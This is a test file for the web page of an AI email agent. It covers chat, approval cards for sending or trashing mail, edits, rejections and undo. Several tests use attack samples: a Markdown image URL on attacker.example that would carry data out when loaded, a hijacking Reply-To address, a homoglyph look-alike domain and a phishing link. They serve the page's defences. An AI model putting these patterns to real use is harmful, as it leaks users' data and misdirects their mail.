// The agent screen against a mocked API: chatting, the working indicator, approval cards and their decisions.
import { act, screen, waitFor, within } from '@testing-library/react'
import userEvent from '@testing-library/user-event'
import type { LiveEvent } from '@/lib/live-socket'
import { apiError, envelope, mockApi, type SeenRequest } from '@/test/fetch-mock'
import { renderWithApp } from '@/test/render'
import type { ActionCard, AgentTurn, PendingAction } from '../types/agent'
import { AgentPage } from './agent-page'

const live = vi.hoisted(() => ({ listeners: new Set<(event: LiveEvent) => void>() }))
vi.mock('@/lib/live-socket', () => ({
  onLiveEvent: (listener: (event: LiveEvent) => void) => {
    live.listeners.add(listener)
    return () => live.listeners.delete(listener)
  },
}))

function emit(type: string, data: Record<string, unknown>) {
  act(() => {
    for (const listener of live.listeners) listener({ type, id: '1', ts: '2026-11-26T10:00:00Z', data })
  })
}

const NOW = '2026-11-26T10:00:00Z'

const HASH = 'a'.repeat(64)

function card(overrides: Partial<ActionCard> = {}): ActionCard {
  return {
    title: "Send an email: 'Offsite'",
    recipients: [
      { field: 'to', address: 'bob@northwind.example', ascii_address: 'bob@northwind.example', name: 'Bob', flags: [], flag_texts: [] },
      {
        field: 'cc',
        address: 'carol@contoso.example',
        ascii_address: 'carol@contoso.example',
        name: '',
        flags: ['first_contact', 'outside_organisation'],
        flag_texts: ['never written to before', 'outside your organisation'],
      },
    ],
    fields: [
      { label: 'From', value: 'me@northwind.example' },
      { label: 'Subject', value: 'Offsite' },
    ],
    body: 'Hi Bob,\n\n  I am in.\nSee you there',
    html_body: null,
    attachments: [],
    items: [],
    notes: [],
    ...overrides,
  }
}

function pendingSend(overrides: Partial<PendingAction> = {}, hash = HASH, cardOverrides: Partial<ActionCard> = {}): PendingAction {
  return {
    id: 'a1',
    conversation_id: 'c1',
    tool: 'send_email',
    payload: {
      to: ['bob@northwind.example'],
      cc: ['carol@contoso.example'],
      subject: 'Offsite',
      body: 'Hi Bob,\n\n  I am in.\nSee you there',
    },
    snapshot: { hash, kind: 'mail.send', card: card(cardOverrides), effect: {} },
    source_changed: false,
    summary: "Send an email: 'Offsite'",
    status: 'pending',
    version: 1,
    created_at: NOW,
    decided_at: null,
    result: {},
    error: null,
    ...overrides,
  }
}

function turn(overrides: Partial<AgentTurn> = {}): AgentTurn {
  return { conversation_id: 'c1', reply: '', activity: [], pending_actions: [], model: 'offline', ...overrides }
}

function conversation(actions: PendingAction[]) {
  return {
    id: 'c1',
    title: 'send the offsite mail',
    created_at: NOW,
    updated_at: NOW,
    messages: 2,
    history: [
      { role: 'user', content: 'send the offsite mail', at: '2026-11-26T09:59:59Z', tool: null },
      { role: 'assistant', content: 'I need your approval first.', at: '2026-11-26T10:00:01Z', tool: null },
    ],
    actions,
  }
}

function baseRoutes(extra: Record<string, (request: SeenRequest) => Response | Promise<Response>> = {}) {
  return mockApi({
    'GET /api/v1/agent/conversations': () => envelope([]),
    'GET /api/v1/agent/actions': () => envelope([]),
    ...extra,
  })
}

function renderAgent(url = '/agent') {
  return renderWithApp(<AgentPage />, {
    url,
    path: '/agent',
    extraRoutes: [{ path: '/agent/:conversationId', element: <AgentPage /> }],
  })
}

function approvalCard(name: string) {
  return screen.getByRole('article', { name })
}

afterEach(() => {
  vi.unstubAllGlobals()
  live.listeners.clear()
})

describe('AgentPage', () => {
  it('shows example prompts that fill the composer', async () => {
    baseRoutes()
    renderAgent()
    const user = userEvent.setup()
    await user.click(screen.getByRole('button', { name: 'find unread mail about the offsite' }))
    expect(screen.getByLabelText('Message the agent')).toHaveValue('find unread mail about the offsite')
    expect(screen.getByText(/waits for your approval/)).toBeInTheDocument()
  })

  it('posts the message, shows the working indicator meanwhile and renders the reply as Markdown', async () => {
    let answer: (response: Response) => void = () => undefined
    const seen = baseRoutes({
      'POST /api/v1/agent/chat': () => new Promise<Response>((resolve) => (answer = resolve)),
      'GET /api/v1/agent/conversations/c1': () => envelope(conversation([])),
    })
    const { router } = renderAgent()
    const user = userEvent.setup()
    await user.type(screen.getByLabelText('Message the agent'), 'find unread mail about the offsite{Enter}')

    expect(await screen.findByRole('status')).toHaveTextContent('The agent is working…')
    expect(screen.getByRole('button', { name: 'Send' })).toBeDisabled()
    const log = screen.getByRole('log')
    expect(log).toHaveAttribute('aria-live', 'polite')
    expect(within(log).getByText('find unread mail about the offsite')).toBeInTheDocument()
    expect(seen.find((r) => r.method === 'POST')?.body).toEqual({ message: 'find unread mail about the offsite', conversation_id: null })

    answer(
      envelope(
        turn({
          reply: 'Found **2** messages:\n\n- Offsite agenda\n- [the doc](https://example.com/doc)\n\n<b>raw</b>',
          activity: [
            { tool_call_id: 't1', tool: 'search_emails', args: { query: 'is:unread offsite', limit: 10 }, status: 'ok', summary: 'search emails', pending_action_id: null },
          ],
        }),
      ),
    )

    expect(await within(log).findByText('2', { selector: 'strong' })).toBeInTheDocument()
    expect(within(log).getByText('Offsite agenda').tagName).toBe('LI')
    const link = within(log).getByRole('link', { name: /the doc/ })
    expect(link).toHaveTextContent('the doc(example.com)') // the link says where it really goes
    expect(link).toHaveAttribute('target', '_blank')
    expect(link).toHaveAttribute('rel', expect.stringContaining('noopener'))
    expect(log.querySelector('b')).toBeNull()
    expect(within(log).getByText('Searched mail: is:unread offsite')).toBeInTheDocument()
    await waitFor(() => expect(screen.queryByText('The agent is working…')).not.toBeInTheDocument())
    expect(screen.getByLabelText('Message the agent')).toHaveValue('')
    await waitFor(() => expect(router.state.location.pathname).toBe('/agent/c1'))
    // The conversation's own transcript survives the move to its address.
    expect(within(screen.getByRole('log')).getByText('Searched mail: is:unread offsite')).toBeInTheDocument()
  })

  it('sends on Enter but not on Shift+Enter', async () => {
    const seen = baseRoutes({ 'POST /api/v1/agent/chat': () => envelope(turn({ reply: 'ok' })) })
    renderAgent()
    const user = userEvent.setup()
    const box = screen.getByLabelText('Message the agent')
    await user.type(box, 'line one{Shift>}{Enter}{/Shift}line two')
    expect(box).toHaveValue('line one\nline two')
    expect(seen.filter((r) => r.method === 'POST')).toHaveLength(0)
    await user.type(box, '{Enter}')
    await waitFor(() => expect(seen.filter((r) => r.method === 'POST')).toHaveLength(1))
    expect(seen.find((r) => r.method === 'POST')?.body).toMatchObject({ message: 'line one\nline two' })
  })

  it('shows every recipient with its flags, the fields and the whole body, and approves that snapshot once on a double click', async () => {
    let resolveApprove: (response: Response) => void = () => undefined
    const seen = baseRoutes({
      'GET /api/v1/agent/conversations/c1': () => envelope(conversation([pendingSend()])),
      'POST /api/v1/agent/actions/a1/approve': () => new Promise<Response>((resolve) => (resolveApprove = resolve)),
    })
    renderAgent('/agent/c1')
    const card = await screen.findByRole('article', { name: 'Send an email' })
    const recipients = within(card).getByRole('list', { name: 'Recipients' })
    expect(recipients).toHaveTextContent('To: Bob <bob@northwind.example>')
    expect(recipients).toHaveTextContent('Cc: <carol@contoso.example>')
    const warnings = within(card).getByRole('list', { name: 'Warnings about carol@contoso.example' })
    expect(warnings).toHaveTextContent('never written to before')
    expect(warnings).toHaveTextContent('outside your organisation')
    expect(within(card).queryByRole('list', { name: 'Warnings about bob@northwind.example' })).not.toBeInTheDocument()
    expect(within(card).getByText('Offsite')).toBeInTheDocument()
    const body = within(card).getByText(/Hi Bob,/)
    expect(body.textContent).toBe('Hi Bob,\n\n  I am in.\nSee you there')
    expect(body.tagName).toBe('PRE')

    const user = userEvent.setup()
    await user.dblClick(within(card).getByRole('button', { name: 'Approve' }))
    expect(await screen.findByText('The agent is working…')).toBeInTheDocument()
    resolveApprove(
      envelope({
        action: pendingSend({ status: 'executed', decided_at: NOW, result: { sent: true }, version: 3 }),
        turn: turn({ reply: 'Sent.' }),
      }),
    )
    expect(await within(approvalCard('Send an email')).findByText('Approved — sent.')).toBeInTheDocument()
    expect(within(screen.getByRole('log')).getByText('Sent.')).toBeInTheDocument()
    expect(within(approvalCard('Send an email')).queryByRole('button', { name: 'Approve' })).not.toBeInTheDocument()
    const approvals = seen.filter((r) => r.method === 'POST' && r.path.endsWith('/approve'))
    expect(approvals).toHaveLength(1)
    expect(approvals[0]?.body).toEqual({ snapshot_hash: HASH }) // exactly the snapshot the card showed
  })

  it('shows the Reply-To flag and the Cc added by reply-all', async () => {
    const reply = pendingSend({ tool: 'reply', payload: { message_id: 'm1', body: 'ok', reply_all: true } }, HASH, {
      title: "Reply to all on 'Audit' from Julie <julie@northwind.example>",
      recipients: [
        { field: 'to', address: 'x@evil.example', ascii_address: 'x@evil.example', name: '', flags: ['reply_to'], flag_texts: ['not the sender of the mail you are replying to (Reply-To)'] },
        { field: 'cc', address: 'audit@evil.example', ascii_address: 'audit@evil.example', name: '', flags: ['reply_all'], flag_texts: ['added by reply-all'] },
        {
          field: 'cc',
          address: 'kim@nоrthwind.example',
          ascii_address: 'kim@xn--nrthwind-nbh.example',
          name: 'Kim',
          flags: ['reply_all', 'lookalike_domain'],
          flag_texts: ['added by reply-all', 'the domain looks like another one (look-alike characters)'],
        },
      ],
      notes: ['The mail you are replying to asks for answers to go to x@evil.example (its Reply-To), not to its sender Julie.'],
    })
    baseRoutes({ 'GET /api/v1/agent/conversations/c1': () => envelope(conversation([reply])) })
    renderAgent('/agent/c1')
    const card = await screen.findByRole('article', { name: 'Reply to all' })
    expect(within(card).getByRole('list', { name: 'Warnings about x@evil.example' })).toHaveTextContent('(Reply-To)')
    expect(within(card).getByRole('list', { name: 'Warnings about audit@evil.example' })).toHaveTextContent('added by reply-all')
    expect(within(card).getByRole('list', { name: 'Recipients' })).toHaveTextContent('Cc: <audit@evil.example>')
    expect(within(card).getByRole('list', { name: 'Notes' })).toHaveTextContent('its Reply-To')
    // a homoglyph domain is also shown as what mail systems carry: punycode
    expect(within(card).getByRole('list', { name: 'Recipients' })).toHaveTextContent('Cc: Kim <kim@nоrthwind.example> (really kim@xn--nrthwind-nbh.example)')
  })

  it('turns an edit into a new card to approve, and shows the server validation error in the dialog', async () => {
    let attempts = 0
    const revisedHash = 'b'.repeat(64)
    const seen = baseRoutes({
      'GET /api/v1/agent/conversations/c1': () => envelope(conversation([pendingSend()])),
      'POST /api/v1/agent/actions/a1/edit': () => {
        attempts += 1
        if (attempts === 1) return apiError(422, 'validation_failed', 'The edited payload is not valid: to[0] must not be empty.', [{ field: 'payload' }])
        return envelope(
          pendingSend({ version: 2, summary: "Send an email: 'Offsite: yes'" }, revisedHash, {
            title: "Send an email: 'Offsite: yes'",
            recipients: [
              { field: 'to', address: 'bob@northwind.example', ascii_address: 'bob@northwind.example', name: '', flags: [], flag_texts: [] },
              { field: 'to', address: 'dave@example.com', ascii_address: 'dave@example.com', name: '', flags: ['first_contact'], flag_texts: ['never written to before'] },
            ],
          }),
        )
      },
      'POST /api/v1/agent/actions/a1/approve': () =>
        envelope({ action: pendingSend({ status: 'executed', result: { sent: true }, version: 3 }, revisedHash), turn: turn({ reply: 'Sent the edited mail.' }) }),
    })
    renderAgent('/agent/c1')
    const user = userEvent.setup()
    const card = await screen.findByRole('article', { name: 'Send an email' })
    await user.click(within(card).getByRole('button', { name: 'Edit' }))
    const dialog = screen.getByRole('dialog', { name: 'Edit: Send an email' })
    const to = within(dialog).getByLabelText('To')
    expect(to).toHaveValue('bob@northwind.example')
    await user.clear(to)
    await user.type(to, 'bob@northwind.example, dave@example.com')
    const subject = within(dialog).getByLabelText('Subject')
    await user.clear(subject)
    await user.type(subject, 'Offsite: yes')
    await user.clear(within(dialog).getByLabelText('Cc'))
    await user.click(within(dialog).getByRole('button', { name: 'Show the edited version' }))

    expect(await within(dialog).findByRole('alert')).toHaveTextContent('The edited payload is not valid')
    await user.click(within(dialog).getByRole('button', { name: 'Show the edited version' }))
    await waitFor(() => expect(screen.queryByRole('dialog')).not.toBeInTheDocument())
    // nothing ran: the new card waits, showing the new recipient and its flag
    const revised = approvalCard('Send an email')
    expect(await within(revised).findByText("Send an email: 'Offsite: yes'")).toBeInTheDocument()
    expect(within(revised).getByRole('list', { name: 'Warnings about dave@example.com' })).toHaveTextContent('never written to before')
    expect(seen.filter((r) => r.path.endsWith('/approve'))).toHaveLength(0)

    await user.click(within(revised).getByRole('button', { name: 'Approve' }))
    expect(await screen.findByText('Sent the edited mail.')).toBeInTheDocument()
    const edits = seen.filter((r) => r.path === '/api/v1/agent/actions/a1/edit')
    expect(edits).toHaveLength(2)
    expect(edits[1]?.body).toEqual({
      payload: { to: ['bob@northwind.example', 'dave@example.com'], subject: 'Offsite: yes', body: 'Hi Bob,\n\n  I am in.\nSee you there' },
    })
    expect(seen.find((r) => r.path.endsWith('/approve'))?.body).toEqual({ snapshot_hash: revisedHash })
  })

  it('rejects and shows the agent follow-up', async () => {
    const seen = baseRoutes({
      'GET /api/v1/agent/conversations/c1': () => envelope(conversation([pendingSend()])),
      'POST /api/v1/agent/actions/a1/reject': () =>
        envelope({ action: pendingSend({ status: 'rejected', decided_at: NOW }), turn: turn({ reply: 'Understood, I did not send it.' }) }),
    })
    renderAgent('/agent/c1')
    const user = userEvent.setup()
    const card = await screen.findByRole('article', { name: 'Send an email' })
    await user.click(within(card).getByRole('button', { name: 'Reject' }))
    expect(await screen.findByText('Understood, I did not send it.')).toBeInTheDocument()
    expect(within(approvalCard('Send an email')).getByText('Rejected — nothing was done.')).toBeInTheDocument()
    expect(seen.filter((r) => r.path === '/api/v1/agent/actions/a1/reject')).toHaveLength(1)
    expect(seen.filter((r) => r.path.endsWith('/approve'))).toHaveLength(0)
  })

  it('shows the error of a decision that was already made', async () => {
    baseRoutes({
      'GET /api/v1/agent/conversations/c1': () => envelope(conversation([pendingSend()])),
      'POST /api/v1/agent/actions/a1/approve': () => apiError(409, 'conflict', 'This action was already executed.'),
    })
    renderAgent('/agent/c1')
    const user = userEvent.setup()
    const card = await screen.findByRole('article', { name: 'Send an email' })
    await user.click(within(card).getByRole('button', { name: 'Approve' }))
    expect(await within(approvalCard('Send an email')).findByRole('alert')).toHaveTextContent('This action was already executed.')
  })

  it('shows a card when a live agent.action_pending event arrives for this conversation', async () => {
    let pending: PendingAction[] = []
    baseRoutes({
      'GET /api/v1/agent/conversations/c1': () => envelope(conversation([])),
      'GET /api/v1/agent/actions': () => envelope(pending),
    })
    renderAgent('/agent/c1')
    expect(await screen.findByText('I need your approval first.')).toBeInTheDocument()
    expect(screen.queryByRole('article')).not.toBeInTheDocument()

    pending = [
      pendingSend({ id: 'a9', tool: 'trash', payload: { message_ids: ['m1', 'm2'] }, summary: 'Move 2 messages to the trash' }, HASH, {
        title: 'Move 2 messages to the trash',
        recipients: [],
        fields: [],
        body: null,
        items: [
          { label: 'Invoice 42', detail: 'from Ann <ann@example.com> · id m1' },
          { label: 'Lunch', detail: 'from Bo <bo@example.com> · id m2' },
        ],
      }),
    ]
    emit('agent.action_pending', { conversation_id: 'c1', tool: 'trash', status: 'pending', summary: 'Move 2 messages to the trash', pending_action_id: 'a9' })
    const card = await screen.findByRole('article', { name: 'Move to trash' })
    const affected = within(card).getByRole('list', { name: 'Affected' })
    expect(affected).toHaveTextContent('Invoice 42 — from Ann <ann@example.com> · id m1')
    expect(affected).toHaveTextContent('Lunch — from Bo <bo@example.com> · id m2')
    expect(within(card).getByRole('button', { name: 'Approve' })).toBeEnabled()
    expect(within(card).queryByRole('button', { name: 'Edit' })).not.toBeInTheDocument()
  })

  it('adds live tool activity of this conversation while the agent works', async () => {
    let answer: (response: Response) => void = () => undefined
    baseRoutes({
      'GET /api/v1/agent/conversations/c1': () => envelope(conversation([])),
      'POST /api/v1/agent/chat': () => new Promise<Response>((resolve) => (answer = resolve)),
    })
    renderAgent('/agent/c1')
    await screen.findByText('I need your approval first.')
    const user = userEvent.setup()
    await user.type(screen.getByLabelText('Message the agent'), 'summarize the thread about the offsite{Enter}')
    emit('agent.tool_call', { conversation_id: 'other', tool: 'get_thread', status: 'ok', summary: 'elsewhere', tool_call_id: 'x' })
    emit('agent.tool_call', { conversation_id: 'c1', tool: 'get_thread', status: 'ok', summary: 'get thread', tool_call_id: 't2' })
    expect(await screen.findByText('Read a thread')).toBeInTheDocument()
    expect(screen.queryByText('elsewhere')).not.toBeInTheDocument()
    answer(envelope(turn({ reply: 'Here is the summary.' })))
    expect(await screen.findByText('Here is the summary.')).toBeInTheDocument()
  })

  it('says when the draft changed after its send was held, and offers the new version as a new card', async () => {
    const draftSend = pendingSend({ payload: { draft_id: 'r1' }, source_changed: true }, HASH, { title: "Send the draft 'Re: Offsite'" })
    const newer = pendingSend({ payload: { draft_id: 'r1' }, version: 2 }, 'c'.repeat(64), {
      title: "Send the draft 'Re: Offsite'",
      recipients: [{ field: 'to', address: 'evil@evil.example', ascii_address: 'evil@evil.example', name: '', flags: ['first_contact'], flag_texts: ['never written to before'] }],
      body: 'Swap changed',
    })
    const seen = baseRoutes({
      'GET /api/v1/agent/conversations/c1': () => envelope(conversation([draftSend])),
      'POST /api/v1/agent/actions/a1/edit': () => envelope(newer),
    })
    renderAgent('/agent/c1')
    const card = await screen.findByRole('article', { name: 'Send an email' })
    expect(within(card).getByRole('status')).toHaveTextContent('Approving sends the version shown here')
    expect(within(card).queryByRole('button', { name: 'Edit' })).not.toBeInTheDocument() // a draft is changed in Drafts
    const user = userEvent.setup()
    await user.click(within(card).getByRole('button', { name: 'Show the new version' }))
    expect(await within(approvalCard('Send an email')).findByText('Swap changed')).toBeInTheDocument()
    expect(within(approvalCard('Send an email')).getByRole('list', { name: 'Recipients' })).toHaveTextContent('evil@evil.example')
    expect(seen.find((r) => r.path === '/api/v1/agent/actions/a1/edit')?.body).toEqual({})
    expect(seen.filter((r) => r.path.endsWith('/approve'))).toHaveLength(0)
  })

  it('never loads an image from an answer: it is a link that names the host it would go to', async () => {
    baseRoutes({
      'POST /api/v1/agent/chat': () =>
        envelope(turn({ reply: 'Subject: ![x](https://attacker.example/p.png?d=493021) and [bank](https://evil.example/login)' })),
    })
    renderAgent()
    const user = userEvent.setup()
    await user.type(screen.getByLabelText('Message the agent'), 'find mail{Enter}')
    const log = screen.getByRole('log')
    const image = await within(log).findByRole('link', { name: /Image “x”/ })
    expect(image).toHaveTextContent('not loaded; opens attacker.example')
    expect(image).toHaveAttribute('href', 'https://attacker.example/p.png?d=493021')
    expect(log.querySelector('img')).toBeNull()
    expect(within(log).getByRole('link', { name: /bank/ })).toHaveTextContent('bank(evil.example)')
  })

  it('lists what the agent changed on its own in a turn and undoes it', async () => {
    const change = (id: string, summary: string) => ({
      id, conversation_id: 'c1', turn_id: 't1', tool: 'remove_label', summary, units: 2, created_at: NOW, undone_at: null, undoable: true,
    })
    const seen = baseRoutes({
      'POST /api/v1/agent/chat': () =>
        envelope(turn({ reply: 'Archived the newsletters.', changes: [change('ch1', 'Archive 2 messages'), change('ch2', 'Mark 3 messages read')] })),
      'POST /api/v1/agent/changes/ch1/undo': () => envelope({ ...change('ch1', 'Archive 2 messages'), undone_at: NOW, undoable: false }),
      'POST /api/v1/agent/changes/ch2/undo': () => envelope({ ...change('ch2', 'Mark 3 messages read'), undone_at: NOW, undoable: false }),
      'GET /api/v1/agent/conversations/c1': () => envelope({ ...conversation([]), changes: [] }),
    })
    renderAgent()
    const user = userEvent.setup()
    await user.type(screen.getByLabelText('Message the agent'), 'archive newsletters{Enter}')
    const changes = await screen.findByRole('region', { name: 'Changes the agent made' })
    expect(changes).toHaveTextContent('Archive 2 messages')
    await user.click(within(changes).getByRole('button', { name: 'Undo: Archive 2 messages' }))
    expect(await within(changes).findByText('Undone')).toBeInTheDocument()
    expect(within(changes).queryByRole('button', { name: 'Undo all' })).not.toBeInTheDocument() // one left to undo
    await user.click(within(changes).getByRole('button', { name: 'Undo: Mark 3 messages read' }))
    await waitFor(() => expect(within(changes).getAllByText('Undone')).toHaveLength(2))
    expect(seen.filter((r) => r.path.endsWith('/undo')).map((r) => r.path)).toEqual([
      '/api/v1/agent/changes/ch1/undo',
      '/api/v1/agent/changes/ch2/undo',
    ])
  })

  it('keeps the typed text and explains a 429', async () => {
    baseRoutes({
      'POST /api/v1/agent/chat': () => apiError(429, 'rate_limited', 'Too many messages to the agent; try again in 30 s.'),
    })
    renderAgent()
    const user = userEvent.setup()
    await user.type(screen.getByLabelText('Message the agent'), 'find mail from zed')
    await user.click(screen.getByRole('button', { name: 'Send' }))
    expect(await screen.findByRole('alert')).toHaveTextContent('Too many messages to the agent; try again in 30 s.')
    expect(screen.getByLabelText('Message the agent')).toHaveValue('find mail from zed')
    expect(within(screen.getByRole('log')).queryByText('find mail from zed')).not.toBeInTheDocument()
  })

  it('lists conversations and opens one', async () => {
    baseRoutes({
      'GET /api/v1/agent/conversations': () => envelope([{ id: 'c1', title: 'send the offsite mail', created_at: NOW, updated_at: NOW, messages: 2 }]),
      'GET /api/v1/agent/conversations/c1': () => envelope(conversation([])),
    })
    const { router } = renderAgent()
    const user = userEvent.setup()
    await user.click(await screen.findByRole('link', { name: /send the offsite mail/ }))
    expect(router.state.location.pathname).toBe('/agent/c1')
    expect(await screen.findByText('I need your approval first.')).toBeInTheDocument()
    await user.click(screen.getByRole('button', { name: 'New conversation' }))
    expect(router.state.location.pathname).toBe('/agent')
  })
})
